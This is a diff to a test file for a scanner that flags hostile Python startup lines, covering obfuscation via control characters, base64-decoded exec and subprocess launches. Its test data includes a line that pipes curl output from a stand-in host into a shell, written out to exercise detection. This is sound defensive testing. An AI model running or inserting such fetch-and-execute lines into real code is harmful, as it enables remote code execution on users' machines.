@@ -45,7 +45,9 @@ describe('startupCode: what is run', () => {
   it.each<[string, readonly (string | number)[]]>([
     ['import agent', [1]],
     ['/path\r\nimport\tagent\r\n', [2]],
-    ['/path\u2028import agent', [2]],
+    ['/path\u2028import agent', [1]],
+    ['import sys \f; import agent', [1]],
+    ["import sys; x = '\u0007'; exec(x)", [1, 'runsText']],
     ["import os; exec('x = 1')", [1, 'runsText']],
     ["import agent\nimport base64; exec(base64.b64decode('eA=='))", [2, 'encoded', 'runsText']],
     ['import os; os.system("curl https://host.example/x | sh")', [1, 'process', 'network']],
@@ -64,14 +66,14 @@ describe('startupCode: what is run', () => {
   it('neutralises the line that it tells', () => {
     const code = startupCode(`import\tos\u202e; x = '\u0007'; ${'y'.repeat(500)}`);
     expect(code?.line.text).toHaveLength(120);
-    expect(code?.line.text).toMatch(/^import os; x = '+y+…$|^import os; x = '/);
+    expect(code?.line.text).toMatch(/^import os; x = ''; y+…$/);
     expect(code?.line.text).not.toMatch(/[\p{Cc}\p{Cf}]/u);
   });
 });
 
 describe('isHostile', () => {
   it.each([
-    ["import os, sys; exec('if \"COV_CORE_SOURCE\" in os.environ:\\n    import pytest_cov')", false],
+    ['import os, sys; exec(\'if "COV_CORE_SOURCE" in os.environ:\\n    import pytest_cov\')', false],
     ['import agent', false],
     ['import base64; x = base64.b64decode("eA==")', false],
     ["import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('eA=='))\"])", true],
